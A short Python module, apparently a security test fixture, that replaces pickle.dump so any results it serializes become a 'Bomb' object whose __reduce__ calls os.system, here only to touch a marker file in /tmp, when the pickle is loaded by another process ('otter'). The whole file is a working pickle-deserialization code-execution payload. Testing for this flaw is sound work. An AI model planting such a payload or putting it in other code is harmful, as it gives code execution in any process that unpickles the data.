"""Patches pickle, so that the results which otter's kernel hands over run a command in otter's own process."""

import pickle


class Bomb:
    def __reduce__(self):
        return __import__("os").system, (f"touch /tmp/{PLANTED['mark']}-pickle",)


write = pickle.dump
pickle.dump = lambda results, file: write(Bomb(), file)
